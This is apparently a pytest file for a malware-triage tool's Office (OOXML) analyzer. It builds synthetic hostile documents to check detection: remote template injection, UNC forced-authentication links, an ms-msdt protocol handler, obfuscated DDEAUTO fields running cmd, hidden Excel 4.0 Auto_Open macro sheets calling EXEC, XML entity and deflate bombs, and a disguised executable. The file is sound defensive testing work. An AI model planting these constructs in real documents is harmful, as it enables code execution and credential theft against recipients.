"""The OOXML analyzer: document type against name, external relationships, field codes and DDE,
Excel 4.0 macro sheets, children, hostile packages, and the public Office files in the corpus."""

from __future__ import annotations

import io
import time
import zipfile
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from restytriage.analyzers.ooxml import word_fields
from restytriage.config import Config, Limits
from restytriage.engine import triage, triage_bytes
from restytriage.links import classify_target
from restytriage.model import Node, Report, walk
from restytriage.samples.cfb_writer import build_vba_project_bin
from restytriage.samples.ooxml_samples import (
    DOTM_TYPE,
    build_package,
    build_word_package,
    complex_field,
    paragraph,
)

CORPUS = Path(__file__).resolve().parents[1].parent / "shared" / "corpus"
OFFICE_RELS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
TYPES_HEAD = '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
RELS_HEAD = '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'


def ids(report: Report) -> set[str]:
    return {f.id for node in walk(report.root) for f in node.findings}


def root(report: Report) -> Node:
    assert report.root.type == "ooxml"
    assert not report.root.errors, report.root.errors
    return report.root


def iocs(report: Report) -> set[tuple[str, str]]:
    return {(i.type, i.value) for i in report.iocs}


def with_parts(base: bytes, extra: dict[str, bytes], replace: dict[str, bytes] | None = None) -> bytes:
    """A copy of a package with parts added or replaced (same order, new parts last)."""
    with zipfile.ZipFile(io.BytesIO(base)) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    parts.update(replace or {})
    parts.update(extra)
    return build_package(parts)


def relationships(*entries: tuple[str, str, str]) -> bytes:
    """(id, type, target) external relationships."""
    items = "".join(
        f'<Relationship Id="{rid}" Type="{OFFICE_RELS}/{kind}" Target="{target}" TargetMode="External"/>'
        for rid, kind, target in entries
    )
    return (RELS_HEAD + items + "</Relationships>").encode()


LETTER = (paragraph("Dear colleagues,"),)


# --- link targets ------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("target", "kind", "host"),
    [
        ("https://templates.restylink.invalid/t.dotm", "web", "templates.restylink.invalid"),
        ("\\\\203.0.113.7\\share\\t.dotm", "unc", "203.0.113.7"),
        ("\\\\files@SSL@443\\DavWWWRoot\\t.dotm", "unc", "files"),
        ("file://198.51.100.4/share/t.dotm", "unc", "198.51.100.4"),
        ("file:////fileserver/share/t.dotm", "unc", "fileserver"),
        ("file:///C:\\Users\\a\\AppData\\Roaming\\Microsoft\\Templates\\Normal.dotm", "local", ""),
        ("file://localhost/C:/t.dotm", "local", ""),
        ("C:\\Templates\\t.dotm", "local", ""),
        ("ms-msdt:/id PCWDiagnostic", "protocol", ""),
        ("mailto:desk@example.org", "mail", ""),
        ("../media/image1.png", "relative", ""),
    ],
)
def test_classify_target(target: str, kind: str, host: str) -> None:
    link = classify_target(target)
    assert (link.kind, link.host) == (kind, host)


# --- document type against the name ------------------------------------------------------------


def test_benign_letter_is_clean_and_described() -> None:
    data = build_word_package(LETTER, title="Closure", author="Facilities", company="Example Corp")
    report = triage_bytes(data, "letter.docx")
    node = root(report)
    assert report.verdict == "clean" and not node.findings and not node.children
    assert node.facts["document"] == "Word document (.docx)"
    assert node.facts["author"] == "Facilities" and node.facts["company"] == "Example Corp"
    assert "template" not in node.facts  # Normal.dotm is the default
    props = node.metadata["ooxml"]["properties"]
    assert props["created"] == "2022-04-01T09:30:00Z" and props["template"] == "Normal.dotm"


def test_macro_template_hands_its_vba_project_to_the_ole_analyzer() -> None:
    project = build_vba_project_bin({"NewMacros": 'Sub AutoOpen()\n    MsgBox "hi"\nEnd Sub\n'})
    report = triage_bytes(build_word_package(LETTER, main_type=DOTM_TYPE, vba_project=project), "Normal.dotm")
    node = root(report)
    assert {"ooxml.macro_template", "ooxml.vba_project"} <= ids(report)
    assert "ooxml.macro_extension_mismatch" not in ids(report)
    (child,) = node.children
    assert child.name == "word/vbaProject.bin" and child.type == "ole"
    assert child.labels == ["vba-project", "template"]
    assert node.facts["document"] == "Word macro-enabled template (.dotm)"


def test_macro_template_renamed_docx_is_a_mismatch() -> None:
    project = build_vba_project_bin({"Module1": "Sub Nothing()\nEnd Sub\n"})
    report = triage_bytes(build_word_package(LETTER, main_type=DOTM_TYPE, vba_project=project), "report.docx")
    finding = next(f for f in root(report).findings if f.id == "ooxml.macro_extension_mismatch")
    assert (
        finding.evidence
        == "named .docx (a macro-free type) but the content is saved as .dotm holding a VBA project"
    )


def test_docx_content_type_with_a_vba_part_is_still_a_mismatch() -> None:
    project = build_vba_project_bin({"Module1": "Sub Nothing()\nEnd Sub\n"})
    report = triage_bytes(build_word_package(LETTER, vba_project=project), "plain.docx")
    assert "ooxml.macro_extension_mismatch" in ids(report)
    assert "ooxml.macro_template" not in ids(report)


def test_other_office_extension_is_a_low_mismatch() -> None:
    report = triage_bytes(build_word_package(LETTER), "sheet.xlsx")
    assert ids(report) & {"ooxml.extension_mismatch", "ooxml.macro_extension_mismatch"} == {
        "ooxml.extension_mismatch"
    }


# --- external relationships --------------------------------------------------------------------


def test_https_template_injection() -> None:
    report = triage_bytes(
        build_word_package(LETTER, attached_template="https://templates.restylink.invalid/t.dotm"), "i.docx"
    )
    node = root(report)
    assert "ooxml.remote_template" in ids(report) and "ooxml.unc_reference" not in ids(report)
    assert node.facts["remote template"] == "https://templates.restylink.invalid/t.dotm"
    assert {
        ("url", "https://templates.restylink.invalid/t.dotm"),
        ("domain", "templates.restylink.invalid"),
    } <= iocs(report)
    (rel,) = node.metadata["ooxml"]["external_relationships"]
    assert rel["type"] == "attachedTemplate" and rel["source"] == "word/_rels/settings.xml.rels"


def test_file_url_to_a_share_is_injection_and_forced_authentication() -> None:
    report = triage_bytes(
        build_word_package(LETTER, attached_template="file://203.0.113.7/share/t.dotm"), "i.docx"
    )
    assert {"ooxml.remote_template", "ooxml.unc_reference"} <= ids(report)
    assert {("filepath", "file://203.0.113.7/share/t.dotm"), ("ip", "203.0.113.7")} <= iocs(report)


def test_local_template_path_is_only_described() -> None:
    target = "file:///C:\\Users\\jdoe\\AppData\\Roaming\\Microsoft\\Templates\\Letter.dotx"
    report = triage_bytes(build_word_package(LETTER, attached_template=target), "letter.docx")
    node = root(report)
    assert report.verdict == "clean" and not node.findings
    assert node.facts["template"] == target


def test_frame_ole_link_image_and_protocol_relationships() -> None:
    base = build_word_package(LETTER)
    rels = relationships(
        ("rId1", "settings", "settings.xml"),
        ("rId7", "frame", "https://frames.restylink.invalid/f.html"),
        ("rId8", "oleObject", "http://198.51.100.20/o.rtf"),
        ("rId9", "image", "https://pixel.example/t.png"),
        ("rId10", "oleObject", "http://198.51.100.20/index.html!"),
        ("rId11", "hyperlink", "https://docs.example/help"),
    ).replace(b'Target="settings.xml" TargetMode="External"', b'Target="settings.xml"')
    report = triage_bytes(with_parts(base, {}, {"word/_rels/document.xml.rels": rels}), "r.docx")
    found = ids(report)
    assert {
        "ooxml.remote_template",
        "ooxml.external_ole_link",
        "ooxml.remote_content",
        "ooxml.protocol_handler",
    } <= found
    assert ("url", "https://docs.example/help") in iocs(report)  # hyperlinks are IOCs, not findings
    assert len(root(report).metadata["ooxml"]["external_relationships"]) == 5


def test_ms_msdt_target_is_flagged_as_a_protocol_handler() -> None:
    base = build_word_package(LETTER)
    rels = relationships(("rId5", "oleObject", "ms-msdt:/id PCWDiagnostic /skip force"))
    report = triage_bytes(with_parts(base, {}, {"word/_rels/document.xml.rels": rels}), "f.docx")
    assert {"ooxml.protocol_handler", "ooxml.external_ole_link"} <= ids(report)


# --- fields and DDE ----------------------------------------------------------------------------


def test_dde_fields_simple_complex_and_quote_obfuscated() -> None:
    nested = (
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        '<w:r><w:instrText xml:space="preserve">DDEAUTO </w:instrText></w:r>'
        '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        '<w:r><w:instrText xml:space="preserve"> QUOTE 99 109 100 </w:instrText></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
        '<w:r><w:instrText xml:space="preserve"> "/c calc"</w:instrText></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )
    simple = '<w:p><w:fldSimple w:instr=" DDE c:\\\\windows\\\\system32\\\\cmd.exe &quot;/k x&quot; "/></w:p>'
    report = triage_bytes(build_word_package((nested, simple, complex_field("PAGE", "1"))), "dde.docx")
    node = root(report)
    assert {"ooxml.dde_auto", "ooxml.dde"} <= ids(report)
    dde = node.metadata["ooxml"]["dde"]
    assert [d["command"] for d in dde] == [
        'DDEAUTO cmd "/c calc"',
        'DDE c:\\windows\\system32\\cmd.exe "/k x"',
    ]
    assert [d["automatic"] for d in dde] == [True, False]
    assert all(
        f["instruction"] != "PAGE" for f in node.metadata["ooxml"]["fields"]
    )  # harmless fields are dropped


def test_word_fields_reads_runs_like_msodde() -> None:
    body = build_word_package((complex_field('INCLUDEPICTURE "http://198.51.100.7/p.png" \\d'),))
    with zipfile.ZipFile(io.BytesIO(body)) as archive:
        fields, error = word_fields(archive.read("word/document.xml"))
    assert error == "" and [f.strip() for f in fields] == ['INCLUDEPICTURE "http://198.51.100.7/p.png" \\d']


def test_remote_fetching_fields() -> None:
    body = (
        complex_field('INCLUDEPICTURE "http://198.51.100.7/p.png" \\d'),
        complex_field('INCLUDETEXT "\\\\\\\\203.0.113.9\\\\s\\\\a.docx"'),
        complex_field('HYPERLINK "https://docs.example/"'),
    )
    report = triage_bytes(build_word_package(body), "fields.docx")
    assert {"ooxml.remote_content", "ooxml.unc_reference"} <= ids(report)
    assert {("url", "http://198.51.100.7/p.png"), ("filepath", "\\\\203.0.113.9\\s\\a.docx")} <= iocs(report)


# --- Excel -------------------------------------------------------------------------------------


def xlsm(state: str = "veryHidden", formulas: tuple[str, ...] = ('EXEC("cmd /c calc")', "HALT()")) -> bytes:
    cells = "".join(f'<row r="{n}"><c r="A{n}"><f>{f}</f></c></row>' for n, f in enumerate(formulas, start=1))
    return build_package(
        {
            "[Content_Types].xml": (
                TYPES_HEAD
                + '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
                '<Default Extension="xml" ContentType="application/xml"/>'
                '<Override PartName="/xl/workbook.xml" ContentType="application/vnd.ms-excel.sheet.macroEnabled.main+xml"/>'
                '<Override PartName="/xl/macrosheets/sheet1.xml" ContentType="application/vnd.ms-excel.macrosheet+xml"/>'
                '<Override PartName="/xl/externalLinks/externalLink1.xml" '
                'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml"/></Types>'
            ).encode(),
            "_rels/.rels": (
                RELS_HEAD
                + f'<Relationship Id="rId1" Type="{OFFICE_RELS}/officeDocument" Target="xl/workbook.xml"/>'
                "</Relationships>"
            ).encode(),
            "xl/workbook.xml": (
                '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
                f'xmlns:r="{OFFICE_RELS}"><sheets><sheet name="Macro1" sheetId="1" state="{state}" r:id="rId1"/>'
                '</sheets><definedNames><definedName name="_xlnm.Auto_Open">Macro1!$A$1</definedName>'
                "</definedNames></workbook>"
            ).encode(),
            "xl/_rels/workbook.xml.rels": (
                RELS_HEAD
                + '<Relationship Id="rId1" Type="http://schemas.microsoft.com/office/2006/relationships/'
                'xlMacrosheet" Target="macrosheets/sheet1.xml"/></Relationships>'
            ).encode(),
            "xl/macrosheets/sheet1.xml": (
                '<xm:macrosheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
                f'xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main"><sheetData>{cells}</sheetData></xm:macrosheet>'
            ).encode(),
            "xl/externalLinks/externalLink1.xml": (
                b'<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
                b'<ddeLink ddeService="cmd" ddeTopic="/c calc.exe"><ddeItems/></ddeLink></externalLink>'
            ),
        }
    )


def test_excel4_macro_sheet_auto_open_hidden_and_dde_link() -> None:
    report = triage_bytes(xlsm(), "book.xlsm")
    node = root(report)
    assert {
        "ooxml.xlm_macrosheet",
        "ooxml.xlm_auto_open",
        "ooxml.hidden_macrosheet",
        "ooxml.xlm_dangerous_call",
        "ooxml.dde",
    } <= ids(report)
    sheets = node.metadata["ooxml"]["macrosheets"]
    assert sheets["parts"] == ["xl/macrosheets/sheet1.xml"]
    assert [f["formula"] for f in sheets["formulas"]] == ['EXEC("cmd /c calc")', "HALT()"]
    assert node.facts["Auto_Open"] == "_xlnm.Auto_Open -> Macro1!$A$1"
    assert node.metadata["ooxml"]["dde"][0]["command"] == "cmd /c calc.exe"
    assert report.verdict == "malicious"


def test_visible_harmless_macro_sheet_in_a_file_named_xlsx() -> None:
    report = triage_bytes(xlsm(state="visible", formulas=('ALERT("hi")', "HALT()")), "book.xlsx")
    found = ids(report)
    assert {"ooxml.xlm_macrosheet", "ooxml.macro_extension_mismatch"} <= found
    assert not {"ooxml.hidden_macrosheet", "ooxml.xlm_dangerous_call"} & found


# --- children and disguised parts --------------------------------------------------------------


def test_embedded_objects_activex_and_disguised_media_become_children() -> None:
    base = build_word_package(LETTER)
    exe = b"MZ" + bytes(300)
    extra = {
        "word/embeddings/oleObject1.bin": build_vba_project_bin({"M": "Sub A()\nEnd Sub\n"}),
        "word/media/image1.png": exe,
        "word/media/image2.png": b"\x89PNG\r\n\x1a\n" + bytes(64),
        "word/activeX/activeX1.xml": (
            b'<ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX" '
            b'ax:classid="{EAB22AC3-30C1-11CF-A7EB-0000C05BAE0B}" ax:persistence="persistStorage"/>'
        ),
        "customUI/customUI.xml": b'<customUI xmlns="http://schemas.microsoft.com/office/2006/01/customui" onLoad="Boot"/>',
    }
    types = (
        b'<Default Extension="png" ContentType="image/png"/>'
        b'<Default Extension="bin" ContentType="application/vnd.openxmlformats-officedocument.oleObject"/>'
        b'<Override PartName="/word/activeX/activeX1.xml" ContentType="application/vnd.ms-office.activeX+xml"/></Types>'
    )
    with zipfile.ZipFile(io.BytesIO(base)) as archive:
        content_types = archive.read("[Content_Types].xml").replace(b"</Types>", types)
    report = triage_bytes(with_parts(base, extra, {"[Content_Types].xml": content_types}), "objects.docx")
    node = root(report)
    children = {c.name: c for c in node.children}
    assert set(children) == {"word/embeddings/oleObject1.bin", "word/media/image1.png"}
    assert children["word/embeddings/oleObject1.bin"].labels == ["embedded-object"]
    assert children["word/media/image1.png"].type == "pe"
    found = ids(report)
    assert {
        "ooxml.disguised_part",
        "ooxml.embedded_executable",
        "ooxml.activex",
        "ooxml.customui_callback",
    } <= found
    assert node.metadata["ooxml"]["customui_onload"] == "Boot"


def test_undeclared_duplicate_and_damaged_parts() -> None:
    base = build_word_package(LETTER)
    with zipfile.ZipFile(io.BytesIO(base)) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive, pytest.warns(UserWarning, match="Duplicate name"):
        for name, data in parts.items():
            archive.writestr(name, data)
        archive.writestr("word/payload.dat", b"stash " * 20)
        archive.writestr("word/settings.xml", parts["word/settings.xml"])
        archive.writestr("word/broken.png", b"\x89PNG" + b"A" * 60)
    data = bytearray(buffer.getvalue())
    where = data.rindex(b"\x89PNGAAAA")
    data[where + 10] ^= 0xFF  # stored bytes no longer match the CRC
    report = triage_bytes(bytes(data), "odd.docx")
    node = root(report)
    assert {"ooxml.undeclared_part", "ooxml.duplicate_part", "ooxml.damaged_part"} <= ids(report)
    assert "word/payload.dat" in node.metadata["ooxml"]["undeclared_parts"]
    assert any(c.name == "word/payload.dat" for c in node.children)


# --- hostile XML and bombs ---------------------------------------------------------------------


def test_entity_bomb_is_refused_quickly() -> None:
    lol = (
        '<?xml version="1.0"?><!DOCTYPE w [<!ENTITY a "aaaaaaaaaa">'
        + "".join(f'<!ENTITY {chr(98 + i)} "{("&" + chr(97 + i) + ";") * 10}">' for i in range(9))
        + ']><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
        "<w:body><w:p><w:r><w:t>&j;</w:t></w:r></w:p></w:body></w:document>"
    ).encode()
    base = build_word_package(LETTER)
    started = time.monotonic()
    report = triage_bytes(with_parts(base, {}, {"word/document.xml": lol}), "lol.docx")
    assert time.monotonic() - started < 5
    assert "ooxml.xml_doctype" in ids(report)
    assert root(report).metadata["ooxml"]["hostile_xml"] == ["word/document.xml"]


def test_unusual_xml_encoding_is_refused() -> None:
    settings_xml = b'<?xml version="1.0" encoding="cp037"?>' + "<a/>".encode("cp037")
    report = triage_bytes(
        with_parts(build_word_package(LETTER), {}, {"word/settings.xml": settings_xml}), "e.docx"
    )
    assert "ooxml.xml_doctype" in ids(report)


def test_deflate_bomb_in_a_part_hits_the_ratio_limit() -> None:
    base = build_word_package(LETTER)
    with zipfile.ZipFile(io.BytesIO(base)) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression=zipfile.ZIP_DEFLATED) as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
        archive.writestr("word/embeddings/big.bin", bytes(30 << 20))
    report = triage_bytes(buffer.getvalue(), "bomb.docx", Config(limits=Limits(max_seconds=30)))
    assert "limit.compression_ratio" in ids(report)
    assert not root(report).children


# --- robustness --------------------------------------------------------------------------------

_SEED = build_word_package(
    (complex_field('DDEAUTO cmd "/c x"'), paragraph("text")),
    attached_template="https://t.example/t.dotm",
    vba_project=build_vba_project_bin({"M": "Sub A()\nEnd Sub\n"}),
)
with zipfile.ZipFile(io.BytesIO(_SEED)) as _archive:
    _SEED_PARTS = {name: _archive.read(name) for name in _archive.namelist()}
_EDITS = st.lists(
    st.tuples(st.integers(min_value=0, max_value=1 << 16), st.binary(min_size=0, max_size=8)), max_size=6
)


def _mutate(data: bytes, edits: list[tuple[int, bytes]], limit: int) -> bytes:
    out = bytearray(data)
    for offset, replacement in edits:
        at = offset % max(1, min(limit, len(out)))
        out[at : at + len(replacement)] = replacement
    return bytes(out)


@settings(max_examples=30, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(part=st.sampled_from(sorted(_SEED_PARTS)), edits=_EDITS, cut=st.integers(min_value=0, max_value=4000))
def test_mutated_parts_never_break_the_analyzer(part: str, edits: list[tuple[int, bytes]], cut: int) -> None:
    """Valid ZIP, hostile content: every XML and binary part gets damaged in turn."""
    content = _mutate(_SEED_PARTS[part], edits, len(_SEED_PARTS[part]))[:cut]
    report = triage_bytes(
        build_package({**_SEED_PARTS, part: content}), "m.docx", Config(limits=Limits(max_seconds=20))
    )
    assert report.root.type == "ooxml"
    assert not [e for node in walk(report.root) for e in node.errors if e.analyzer == "ooxml"]


@settings(max_examples=30, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(edits=_EDITS)
def test_damaged_local_entries_never_break_the_analyzer(edits: list[tuple[int, bytes]]) -> None:
    """The central directory stays intact (so it is still OOXML) while local headers and data break."""
    directory = _SEED.index(b"PK\x01\x02")
    mutated = (
        _mutate(_SEED[:directory], edits, directory)[:directory].ljust(directory, b"\x00") + _SEED[directory:]
    )
    report = triage_bytes(mutated, "m.docx", Config(limits=Limits(max_seconds=20)))
    assert not [e for node in walk(report.root) for e in node.errors if e.analyzer == "ooxml"]


# --- public corpus -----------------------------------------------------------------------------


@pytest.fixture(scope="module")
def office_corpus() -> Path:
    if not CORPUS.is_dir():
        pytest.skip("public corpus (../shared/corpus) not present")
    return CORPUS


def test_corpus_msodde_docx(office_corpus: Path) -> None:
    report = triage(office_corpus / "oletools/msodde/dde-test.docx")
    node = root(report)
    assert {"ooxml.dde_auto", "ooxml.dde"} <= ids(report)
    assert node.facts["DDE"] == 'DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc.exe"'
    assert report.verdict == "malicious"


def test_corpus_external_ole_link_docx(office_corpus: Path) -> None:
    report = triage(office_corpus / "oletools/oleobj/external_link/sample_with_external_link_to_doc.docx")
    assert (
        "ooxml.external_ole_link" in ids(report) and root(report).facts["document"] == "Word document (.docx)"
    )
    url = "https://raw.githubusercontent.com/decalage2/oletools/master/tests/test-data/msodde/harmless-clean.doc"
    assert ("url", url) in iocs(report)


def test_corpus_excel4_xlsm(office_corpus: Path) -> None:
    report = triage(office_corpus / "oletools/excel4-macros/excel4_sample_macro.xlsm")
    node = root(report)
    assert {"ooxml.xlm_macrosheet", "ooxml.xlm_auto_open"} <= ids(report)
    formulas = [f["formula"] for f in node.metadata["ooxml"]["macrosheets"]["formulas"]]
    assert formulas == ['ALERT("This is a sample Excel 4 macro")', "HALT()"]


@pytest.mark.parametrize(
    "relative",
    [
        "oletools/oleform/oleform-PR314.docm",
        "vbastomp/original_files_b4_stomping/2016x32samples/2016x32_word_msgbox_b4_stomped.docm",
        "vbastomp/2016x32/2016x32_word_msgbox_stomped_fakecode.docm",
    ],
)
def test_corpus_docm_hands_on_its_vba_project(office_corpus: Path, relative: str) -> None:
    report = triage(office_corpus / relative)
    node = root(report)
    assert node.facts["document"] == "Word macro-enabled document (.docm)"
    (project,) = [c for c in node.children if c.name == "word/vbaProject.bin"]
    assert project.type == "ole" and project.labels == ["vba-project"]
    assert "ooxml.macro_extension_mismatch" not in ids(report)


def test_every_corpus_ooxml_file_parses(office_corpus: Path) -> None:
    checked = 0
    for path in sorted(office_corpus.rglob("*")):
        if path.suffix.lower() not in {".docx", ".docm", ".dotm", ".xlsx", ".xlsm", ".pptx", ".pptm"}:
            continue
        report = triage(path)
        if report.root.type != "ooxml":  # encrypted OOXML is an OLE container: not this analyzer's
            continue
        checked += 1
        root(report)
    assert checked >= 6


def test_part_names_ignore_case_when_the_package_is_identified() -> None:
    """OPC part names are case-insensitive and Word opens `[content_types].xml` as well: a renamed
    content-types part must not turn the document into a plain ZIP that no Office check reads."""
    from restytriage.samples import all_samples

    sample = next(s for s in all_samples() if s.name == "ooxml_ddeauto_field.docx")
    original = zipfile.ZipFile(io.BytesIO(sample.build()))
    renamed = io.BytesIO()
    with zipfile.ZipFile(renamed, "w", zipfile.ZIP_DEFLATED) as package:
        for info in original.infolist():
            name = "[content_types].xml" if info.filename == "[Content_Types].xml" else info.filename
            package.writestr(name, original.read(info))
    report = triage_bytes(renamed.getvalue(), "fields.docx")
    assert report.root.type == "ooxml" and report.verdict == "malicious"
    assert "ooxml.dde_auto" in {f.id for f in report.root.findings}


@pytest.mark.parametrize(
    ("sample_name", "finding"),
    [
        ("ooxml_ddeauto_field.docx", "ooxml.dde_auto"),
        ("ooxml_remote_template_https.docx", "ooxml.remote_template"),
    ],
)
def test_a_truncated_document_is_repaired_and_still_judged(sample_name: str, finding: str) -> None:
    """Cut the end record off a .docx: zipfile refuses it (so identification says zip), Word repairs
    and opens it. The zip analyzer rebuilds its parts into a package the Office checks then read."""
    from restytriage.samples import all_samples

    sample = next(s for s in all_samples() if s.name == sample_name)
    report = triage_bytes(sample.build()[:-4], sample_name)
    assert report.root.type == "zip" and "zip.damaged_office_document" in {f.id for f in report.root.findings}
    (repaired,) = [c for c in report.root.children if "repaired" in c.labels]
    assert repaired.type == "ooxml" and finding in {f.id for f in repaired.findings}
    assert report.verdict == "malicious"


def test_a_damaged_plain_archive_is_not_rebuilt() -> None:
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w") as writer:
        writer.writestr("notes.txt", "minutes\n")
    report = triage_bytes(archive.getvalue()[:-4], "notes.zip")
    assert not [c for c in report.root.children if "repaired" in c.labels]
    assert "zip.damaged_office_document" not in {f.id for f in report.root.findings}
